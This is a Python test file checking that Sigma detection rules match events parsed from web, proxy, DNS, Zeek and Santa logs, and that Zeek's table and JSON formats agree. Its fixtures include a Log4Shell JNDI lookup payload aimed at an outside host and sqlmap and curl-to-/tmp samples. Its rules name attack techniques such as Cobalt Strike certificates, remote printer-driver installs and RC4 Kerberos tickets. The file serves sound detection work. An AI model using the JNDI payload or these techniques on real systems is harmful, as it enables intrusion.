"""Web servers, proxies, DNS and network sensors: that Sigma's rules find their events, and Zeek's logs their kind."""

from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

import orjson
import pytest

from integrations.catalogue import source
from integrations.contract import Origin, Record
from integrations.pipeline import Pipeline
from integrations.zeek.log_samples import LOG_SAMPLES
from integrations.zeek.paths import path_of
from rules.ecs import Document, flatten
from rules.rule import RuleText, parse_rules
from rules.sigma import compile_rules

RULES = """
title: Log4Shell In The Request
logsource: {category: webserver}
detection: {selection: {cs-method: GET, cs-uri-query|contains: 'jndi:ldap'}, condition: selection}
---
title: Backup Was Read
logsource: {category: webserver}
detection: {selection: {cs-uri-stem|endswith: .bak, sc-status: 200}, condition: selection}
---
title: Scanner
logsource: {category: webserver}
detection: {selection: {cs-user-agent|contains: sqlmap}, condition: selection}
---
title: Program Was Fetched
logsource: {category: proxy}
detection: {selection: {c-uri-extension: exe, cs-host|endswith: .example.org, c-uri|contains: '/dl/'}, condition: selection}
---
title: Dynamic Name Was Asked
logsource: {category: dns}
detection: {selection: {query|endswith: .duckdns.org}, condition: selection}
---
title: Scheduled Task Over The Network
logsource: {product: zeek, service: smb_files}
detection: {selection: {path|endswith: 'IPC$', name: atsvc}, condition: selection}
---
title: Printer Driver Installed From Afar
logsource: {product: zeek, service: dce_rpc}
detection: {selection: {operation: RpcAddPrinterDriver}, condition: selection}
---
title: Certificate Of Cobalt Strike
logsource: {product: zeek, service: x509}
detection: {selection: {certificate.serial: 8BB00EE}, condition: selection}
---
title: WinRM Without Authorization
logsource: {product: zeek, service: http}
detection:
  selection: {status_code: 200, uri: /wsman, method: POST}
  header: {client_header_names|contains: AUTHORIZATION}
  condition: selection and not header
---
title: Weak Ticket
logsource: {product: zeek, service: kerberos}
detection: {selection: {request_type: TGS, cipher: rc4-hmac}, condition: selection}
---
title: Curl On A Mac
logsource: {product: macos, category: process_creation}
detection: {selection: {Image|endswith: /curl, CommandLine|contains: /tmp/}, condition: selection}
"""
_ENDS = (
    '"ts":1767862800.1,"id.orig_h":"192.0.2.7","id.orig_p":50000,"id.resp_h":"198.51.100.80","id.resp_p":445,'
)
_COMBINED = '192.0.2.7 - - [08/Jan/2026:09:00:00 +0000] "GET {} HTTP/1.1" {} 5 "-" "{}"'
_IIS = "2026-01-08 10:11:13 192.0.2.80 GET {} {} 443 - 203.0.113.9 {} {} 0 0 7"
_HAPROXY = (
    "Feb  6 12:14:14 lb haproxy[1]: 192.0.2.7:33317 [06/Feb/2026:12:14:14.655] a b/c 10/0/30/69/109 200 2750 - - "
    '---- 1/1/1/1/0 0/0 "GET {} HTTP/1.1"'
)
_QUERY = '"event_type":"dns","timestamp":"2026-01-08T09:00:00.0+0000","dns":{"type":"query","rrname":"x.duckdns.org","rrtype":"A"}'


def event(name: str, *lines: str) -> Document:
    pipeline = Pipeline(source(name), Origin(received=datetime(2026, 4, 20, tzinfo=UTC)))
    documents: list[Document] = []
    for at, line in enumerate(lines):
        documents += pipeline.feed(Record(line.encode(), f"f@{at}"))
    (document,) = documents + pipeline.flush()
    return document


def found(name: str, *lines: str) -> list[str]:
    parsed = parse_rules([RuleText("sensors.yml", RULES)])
    matcher = compile_rules(parsed.detections)
    assert (parsed.faults, matcher.faults) == ((), ())
    return [rule.title for rule in matcher.match(flatten(event(name, *lines)))]


@pytest.mark.parametrize(
    ("name", "line", "expected"),
    [
        ("apache.access", _COMBINED.format("/?x=${jndi:ldap://203.0.113.9/a}", 404, "-"), ["Log4Shell In The Request"]),
        ("nginx.access", _COMBINED.format("/db.bak", 200, "sqlmap/1.8") + ' "-"', ["Backup Was Read", "Scanner"]),
        ("nginx.access", _COMBINED.format("/db.bak", 404, "curl/8.5.0") + ' "-"', []),
        ("iis.access", _IIS.format("/db.bak", "-", "sqlmap/1.8", 200), ["Backup Was Read", "Scanner"]),
        ("iis.access", _IIS.format("/", "x=${jndi:ldap://h}", "-", 200), ["Log4Shell In The Request"]),
        ("haproxy.log", _HAPROXY.format("/db.bak"), ["Backup Was Read"]),
        ("traefik.access", _COMBINED.format("/db.bak", 200, "-") + ' 1 "a" "http://10.0.0.1:80" 2ms', ["Backup Was Read"]),
        ("cloudflare.http",
         '{"EdgeStartTimestamp":1767862800000000000,"ClientRequestMethod":"GET","ClientRequestURI":"/db.bak","EdgeResponseStatus":200}',
         ["Backup Was Read"]),
        ("squid.access",
         "1767862800.779 180 192.0.2.7 TCP_MISS/200 4112 GET http://www.example.org/dl/a.exe - HIER_DIRECT/203.0.113.80 -",
         ["Program Was Fetched"]),
        ("suricata.eve", "{" + _QUERY + "}", ["Dynamic Name Was Asked"]),
        ("zeek.log", "{" + _ENDS + '"trans_id":1,"query":"x.duckdns.org","rejected":false}', ["Dynamic Name Was Asked"]),
        ("bind.named", "client 192.0.2.7#5 (x.duckdns.org): query: x.duckdns.org IN A + (192.0.2.53)", ["Dynamic Name Was Asked"]),
        ("dnsmasq.log", "query[A] x.duckdns.org from 192.0.2.7", ["Dynamic Name Was Asked"]),
        ("zeek.log", "{" + _ENDS + '"action":"SMB::FILE_OPEN","path":"\\\\\\\\fs\\\\IPC$","name":"atsvc"}',
         ["Scheduled Task Over The Network"]),
        ("zeek.log", "{" + _ENDS + '"named_pipe":"x","endpoint":"spoolss","operation":"RpcAddPrinterDriver"}',
         ["Printer Driver Installed From Afar"]),
        ("zeek.log", '{"ts":1.0,"id":"F1","certificate.serial":"8BB00EE"}', ["Certificate Of Cobalt Strike"]),
        ("zeek.log", "{" + _ENDS + '"trans_depth":1,"method":"POST","uri":"/wsman","status_code":200}',
         ["WinRM Without Authorization"]),
        ("zeek.log", "{" + _ENDS + '"request_type":"TGS","client":"a/X","service":"b","cipher":"rc4-hmac"}', ["Weak Ticket"]),
        ("santa.log", "[2026-01-08T09:00:00Z] I santad: action=EXEC|decision=ALLOW|path=/usr/bin/curl|args=curl -o /tmp/x",
         ["Curl On A Mac"]),
    ],
)  # fmt: skip
def test_rules_find_what_they_are_about(name: str, line: str, expected: list[str]) -> None:
    assert found(name, line) == expected


def test_a_zeek_log_is_known_by_its_fields_as_by_its_name() -> None:
    named = [
        sample for sample in LOG_SAMPLES if sample.record.startswith("{") and "_path" not in sample.record
    ]
    assert len(named) > 35
    for sample in named:
        assert f"zeek.{path_of(orjson.loads(sample.record))}" == sample.expect["event.dataset"]


def test_zeeks_tables_are_what_its_json_says() -> None:
    as_json = event("zeek.log", '{"ts":1767862800.5,"uid":"C1","id.orig_h":"192.0.2.7","id.orig_p":5,"id.resp_h":"192.0.2.8",'
                    '"id.resp_p":80,"trans_depth":1,"method":"GET","uri":"/a,b","status_code":200,"resp_fuids":["F1","F2"]}')  # fmt: skip
    as_table = event(
        "zeek.log",
        "#separator \\x09",
        "#set_separator\t,",
        "#empty_field\t(empty)",
        "#unset_field\t-",
        "#path\thttp",
        "#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\ttrans_depth\tmethod\thost\turi\tstatus_code\tresp_fuids",
        "#types\ttime\tstring\taddr\tport\taddr\tport\tcount\tstring\tstring\tstring\tcount\tvector[string]",
        "1767862800.5\tC1\t192.0.2.7\t5\t192.0.2.8\t80\t1\tGET\t-\t/a\\x2cb\t200\tF1,F2",
    )
    own = ("event.id", "event.original")
    assert {key: value for key, value in flatten(as_table).items() if key not in own} == {
        key: value for key, value in flatten(as_json).items() if key not in own
    }


@pytest.mark.parametrize(
    ("name", "line", "reason"),
    [
        ("apache.access", "hello", "expected the common or combined log format"),
        ("zeek.log", "1767862800.5\tC1", "a #fields line before tab-separated values"),
        ("suricata.eve", '{"timestamp":"2026-01-08T09:00:00Z"}', "expected event_type and timestamp"),
        ("suricata.eve", '{"event_type":"dns"}', "its time is missing"),
        ("snort.log", "hello", "expected an alert of Snort"),
        ("bind.named", "hello", "expected a line of named"),
    ],
)
def test_what_is_of_no_such_format_says_what_was_expected(name: str, line: str, reason: str) -> None:
    document: dict[str, Any] = event(name, line)
    assert document["event"]["kind"] == "pipeline_error"
    assert reason in document["error"]["message"]
